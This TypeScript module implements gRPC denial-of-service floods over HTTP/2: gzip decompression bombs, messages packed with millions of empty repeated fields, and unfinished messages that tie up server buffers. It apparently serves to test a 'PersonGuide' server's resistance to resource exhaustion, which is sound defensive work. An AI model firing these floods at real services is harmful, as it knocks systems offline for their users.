import { once } from 'node:events';
import {
  connect,
  type ClientHttp2Session,
  type ClientHttp2Stream,
  type IncomingHttpHeaders,
} from 'node:http2';
import { gzipSync } from 'node:zlib';

const RECORD_PERSONS = '/personguide.PersonGuide/RecordPersons';
const MEBIBYTE = 1024 * 1024;
const PREFIX_BYTES = 5;

/** An empty phone of a person: two bytes on the wire, a hundred in memory. */
const EMPTY_PHONE = Buffer.of((4 << 3) | 2, 0);

/** The connection of an attack, and the `grpc-status` of each call that has one; it stays open. */
export interface MessageFlood extends Disposable {
  readonly session: ClientHttp2Session;
  readonly statuses: readonly string[];
}

/** Calls with messages of a few KB each, which inflate to `inflatedBytes`. */
export function compressedBombs(
  address: string,
  { path = RECORD_PERSONS, calls = 300, inflatedBytes = 4 * MEBIBYTE, messages = 1 } = {},
): Promise<MessageFlood> {
  const bomb = framed(gzipSync(Buffer.alloc(inflatedBytes)), true);
  const body = Buffer.concat(Array<Buffer>(messages).fill(bomb));
  return flood(address, path, calls, body, { 'grpc-encoding': 'gzip' });
}

/** Calls with one message of empty phones, of which two million are 4 KB when compressed. */
export function emptyPhones(
  address: string,
  { path = RECORD_PERSONS, calls = 20, phones = 2_000_000, compressed = true } = {},
): Promise<MessageFlood> {
  const message = Buffer.alloc(phones * EMPTY_PHONE.length, EMPTY_PHONE);
  if (!compressed) return flood(address, path, calls, framed(message, false), {});
  return flood(address, path, calls, framed(gzipSync(message), true), { 'grpc-encoding': 'gzip' });
}

/** Calls with a message that lacks its last byte; resolves when the server has taken all it takes. */
export async function unfinishedMessages(
  address: string,
  { path = RECORD_PERSONS, calls = 100, bytes = 4 * MEBIBYTE } = {},
): Promise<MessageFlood> {
  const body = framed(Buffer.alloc(bytes), false).subarray(0, -1);
  const { session, statuses, open } = await openFlood(address);
  const written = Array.from({ length: calls }, async () => {
    const stream = open(path, {});
    await new Promise<void>((resolve) => {
      stream.once('close', resolve);
      stream.write(body, () => {
        resolve();
      });
    });
  });
  await Promise.all(written);
  return {
    session,
    statuses,
    [Symbol.dispose]: () => {
      session.destroy();
    },
  };
}

async function flood(
  address: string,
  path: string,
  calls: number,
  body: Buffer,
  headers: Readonly<Record<string, string>>,
): Promise<MessageFlood> {
  const { session, statuses, open } = await openFlood(address);
  const ends = Array.from({ length: calls }, async () => {
    const stream = open(path, headers);
    stream.end(body);
    await once(stream, 'close').catch(() => undefined);
  });
  await Promise.all(ends);
  return {
    session,
    statuses,
    [Symbol.dispose]: () => {
      session.destroy();
    },
  };
}

interface OpenFlood {
  readonly session: ClientHttp2Session;
  readonly statuses: string[];
  readonly open: (path: string, headers: Readonly<Record<string, string>>) => ClientHttp2Stream;
}

async function openFlood(address: string): Promise<OpenFlood> {
  const session = connect(`http://${address}`);
  session.on('error', () => undefined);
  await once(session, 'connect');
  const statuses: string[] = [];
  const note = (headers: IncomingHttpHeaders): void => {
    const status = headers['grpc-status'];
    if (typeof status === 'string') statuses.push(status);
  };
  const open: OpenFlood['open'] = (path, headers) => {
    const stream = session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
    stream
      .on('error', () => undefined)
      .on('response', note)
      .on('trailers', note);
    return stream.resume();
  };
  return { session, statuses, open };
}

/** A message as it travels in a stream. */
function framed(message: Uint8Array, compressed: boolean): Buffer {
  const prefix = Buffer.alloc(PREFIX_BYTES);
  prefix.writeUInt8(compressed ? 1 : 0, 0);
  prefix.writeUInt32BE(message.length, 1);
  return Buffer.concat([prefix, message]);
}
